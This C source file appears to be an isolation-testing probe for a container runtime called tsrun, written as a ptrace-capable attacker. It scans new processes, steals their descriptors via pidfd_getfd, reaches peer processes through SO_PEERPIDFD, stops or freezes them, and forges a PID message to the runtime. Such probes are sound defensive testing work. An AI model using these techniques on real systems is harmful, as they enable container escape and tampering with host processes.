/*
 * An attacker with CAP_SYS_PTRACE: looks at every process that appears in its pid namespace, at
 * once.
 *
 *   peek MARKER stop|look|keep|freeze|PID      until it is killed
 *
 * Of each process that still executes tsrun's init it says, a line each, what of the host can be
 * reached through it: descriptors, root, working directory and mappings; and which privileges it
 * has that the attacker has not. MARKER is a path of the host that no container has. With `stop`
 * each new process is stopped first. With PID, each is stopped and robbed of its channels, on which
 * the attacker tells tsrun that the process PID of the host goes on in its stead. With `keep` the
 * attacker keeps its channels open for ever. With `freeze` each process of tsrun's init is stopped
 * and stays so. A line `caught` follows each process that was looked
 * at, `ready` comes first.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define INIT "/memfd:tsrun-init"
/* Pids to try from the last one that was seen. */
#define AHEAD 4

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

/* messages.pid of lib/plan/wire.ts. */
#define MESSAGE_PID 1

static const char *marker;
static bool stops;
static bool keeps;
static bool freezes;
/* The process of the host that is named to tsrun, or 0. */
static unsigned int forged;

static void say(const char *format, ...) {
    char line[8192];
    va_list parts;
    va_start(parts, format);
    int size = vsnprintf(line, sizeof(line) - 1, format, parts);
    va_end(parts);
    if (size < 0)
        return;
    if ((size_t)size > sizeof(line) - 2)
        size = sizeof(line) - 2;
    line[size] = '\n';
    if (write(1, line, (size_t)size + 1) < 0)
        _exit(1);
}

static bool read_link(const char *path, char *target, size_t size) {
    ssize_t length = readlink(path, target, size - 1);
    if (length < 0)
        return false;
    target[length] = '\0';
    return true;
}

static bool starts_with(const char *text, const char *prefix) {
    return strncmp(text, prefix, strlen(prefix)) == 0;
}

static bool executes_init(int pid) {
    char path[64], target[4096];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    return read_link(path, target, sizeof(target)) && starts_with(target, INIT);
}

/* The marker can be opened from what `path` leads to, going up as far as it gets. */
static void try_marker(int pid, const char *path) {
    char up[8192];
    snprintf(up, sizeof(up), "%s%s", path, marker);
    for (int depth = 0; depth < 12; depth++) {
        int fd = open(up, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            if (executes_init(pid))
                say("pid %d: %s reads a file of the host", pid, path);
            return;
        }
        snprintf(up, sizeof(up), "%s", path);
        for (int i = 0; i <= depth; i++)
            strcat(up, "/..");
        strcat(up, marker);
    }
}

/* What a process that waits for its program may hold: its stdio, and nothing else that has a path.
 */
static bool is_harmless(int fd, const char *target) {
    return fd <= 2 || starts_with(target, "pipe:[") || starts_with(target, "socket:[") ||
           starts_with(target, "/memfd:");
}

static void look_at_descriptors(int pid) {
    char path[64], entry[512], target[4096];
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    if (dir == NULL)
        return;
    struct dirent *found;
    while ((found = readdir(dir)) != NULL) {
        if (found->d_name[0] == '.')
            continue;
        snprintf(entry, sizeof(entry), "%s/%s", path, found->d_name);
        if (!read_link(entry, target, sizeof(target)))
            continue;
        if (!is_harmless(atoi(found->d_name), target) && executes_init(pid))
            say("pid %d: descriptor %s is %s", pid, found->d_name, target);
        try_marker(pid, entry);
    }
    closedir(dir);
}

static void look_at_maps(int pid) {
    char path[64], line[4096];
    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    if (maps == NULL)
        return;
    while (fgets(line, sizeof(line), maps) != NULL) {
        char *name = strchr(line, '/');
        if (name != NULL && !starts_with(name, "/memfd:") && executes_init(pid))
            say("pid %d: maps %s", pid, strtok(name, "\n"));
    }
    fclose(maps);
}

struct privileges {
    unsigned long long permitted;
    unsigned long long effective;
    unsigned long long bounding;
    int no_new_privileges;
    int seccomp;
    /* The controlling one, of a session that the process has not made itself; 0 for none. */
    long terminal;
};

static bool read_privileges(const char *process, struct privileges *p) {
    char path[64], line[4096];
    memset(p, 0, sizeof(*p));
    snprintf(path, sizeof(path), "/proc/%s/status", process);
    FILE *status = fopen(path, "re");
    if (status == NULL)
        return false;
    while (fgets(line, sizeof(line), status) != NULL) {
        sscanf(line, "CapPrm: %llx", &p->permitted);
        sscanf(line, "CapEff: %llx", &p->effective);
        sscanf(line, "CapBnd: %llx", &p->bounding);
        sscanf(line, "NoNewPrivs: %d", &p->no_new_privileges);
        sscanf(line, "Seccomp: %d", &p->seccomp);
    }
    fclose(status);
    snprintf(path, sizeof(path), "/proc/%s/stat", process);
    FILE *stat = fopen(path, "re");
    if (stat == NULL)
        return false;
    char *end = fgets(line, sizeof(line), stat) == NULL ? NULL : strrchr(line, ')');
    fclose(stat);
    int group = 0, session = 0;
    if (end == NULL || sscanf(end + 1, " %*c %*d %d %d %ld", &group, &session, &p->terminal) != 3)
        return false;
    if (session != 0 && session == group)
        p->terminal = 0;
    return true;
}

static void look_at_privileges(int pid, const struct privileges *mine) {
    char process[16];
    struct privileges theirs;
    snprintf(process, sizeof(process), "%d", pid);
    if (!read_privileges(process, &theirs) || !executes_init(pid))
        return;
    if (((theirs.permitted | theirs.effective | theirs.bounding) & ~mine->bounding) != 0)
        say("pid %d: has capabilities %llx, %llx in its bounding set", pid, theirs.permitted,
            theirs.bounding);
    if (theirs.no_new_privileges < mine->no_new_privileges)
        say("pid %d: may gain privileges", pid);
    if (theirs.seccomp < mine->seccomp)
        say("pid %d: has no filter", pid);
    if (theirs.terminal != mine->terminal)
        say("pid %d: has the terminal %lx", pid, theirs.terminal);
}

/* Takes the descriptors of the process from 3 on whose names begin with `kind`, one by one. */
static void steal(int pid, const char *kind, void (*use)(int pid, const char *name, int fd)) {
    char path[64], entry[512], target[4096];
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    struct dirent *found;
    while (dir != NULL && (found = readdir(dir)) != NULL) {
        snprintf(entry, sizeof(entry), "%s/%s", path, found->d_name);
        if (atoi(found->d_name) <= 2 || !read_link(entry, target, sizeof(target)) ||
            !starts_with(target, kind))
            continue;
        int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(found->d_name), 0);
        if (stolen < 0)
            continue;
        use(pid, found->d_name, stolen);
        if (!keeps)
            close(stolen);
    }
    if (dir != NULL)
        closedir(dir);
    if (pidfd >= 0)
        close(pidfd);
}

/*
 * The kernel names the process at the other end of a socket, or who has made or connected it, in
 * whatever pid namespace that is (Linux 6.5). Says so when descriptors can be taken from there.
 */
static void look_at_peer(int pid, const char *name, int sock) {
    struct ucred credentials = {0};
    int peer = -1;
    socklen_t size = sizeof(credentials);
    /* A process of the container, the init itself: it has a pid here. */
    if (getsockopt(sock, SOL_SOCKET, SO_PEERCRED, &credentials, &size) == 0 && credentials.pid > 0)
        return;
    size = sizeof(peer);
    if (getsockopt(sock, SOL_SOCKET, SO_PEERPIDFD, &peer, &size) < 0 || peer < 0)
        return;
    for (int fd = 0; fd < 64; fd++) {
        int taken = (int)syscall(SYS_pidfd_getfd, peer, fd, 0);
        struct stat status;
        if (taken < 0)
            continue;
        /* Who connects for `start` has the connection and the socket's inode, for that one call. */
        bool is_socket = fstat(taken, &status) == 0 && S_ISSOCK(status.st_mode);
        if (!is_socket && executes_init(pid))
            say("pid %d: socket %s leads to descriptor %d of another process", pid, name, fd);
        close(taken);
    }
    close(peer);
}

static void forge(int pid, const char *name, int fd) {
    unsigned int message[4] = {MESSAGE_PID, 0, 0, forged};
    (void)name;
    if (executes_init(pid) && write(fd, message, sizeof(message)) > 0)
        say("forged");
}

static void examine(int pid, const struct privileges *mine) {
    char path[64];
    if (keeps)
        steal(pid, "pipe:[", look_at_peer);
    if (forged != 0) {
        steal(pid, "socket:[", forge);
        steal(pid, "pipe:[", forge);
    }
    steal(pid, "socket:[", look_at_peer);
    look_at_descriptors(pid);
    look_at_privileges(pid, mine);
    snprintf(path, sizeof(path), "/proc/%d/root", pid);
    try_marker(pid, path);
    snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
    try_marker(pid, path);
    look_at_maps(pid);
}

static void look_at(int pid, const struct privileges *mine) {
    if (!executes_init(pid))
        return;
    examine(pid, mine);
    say("caught %d", pid);
}

int main(int argc, char **argv) {
    struct privileges mine;
    if (argc != 3 || !read_privileges("self", &mine)) {
        fprintf(stderr, "usage: peek MARKER stop|look|keep|freeze|PID, with procfs on /proc\n");
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    marker = argv[1];
    forged = (unsigned int)atoi(argv[2]);
    keeps = strcmp(argv[2], "keep") == 0;
    freezes = strcmp(argv[2], "freeze") == 0;
    stops = strcmp(argv[2], "stop") == 0 || keeps || freezes || forged != 0;
    say("ready");
    bool seen = false;
    for (int last = getpid();;) {
        /* Of a container that is created and not started. */
        if (executes_init(1)) {
            examine(1, &mine);
            if (!seen)
                say("caught 1");
            seen = true;
        }
        for (int pid = last + 1; pid <= last + AHEAD; pid++) {
            if (kill(pid, stops ? SIGSTOP : 0) < 0)
                continue;
            look_at(pid, &mine);
            if (stops && !(freezes && executes_init(pid)))
                kill(pid, SIGCONT);
            last = pid;
            break;
        }
    }
}
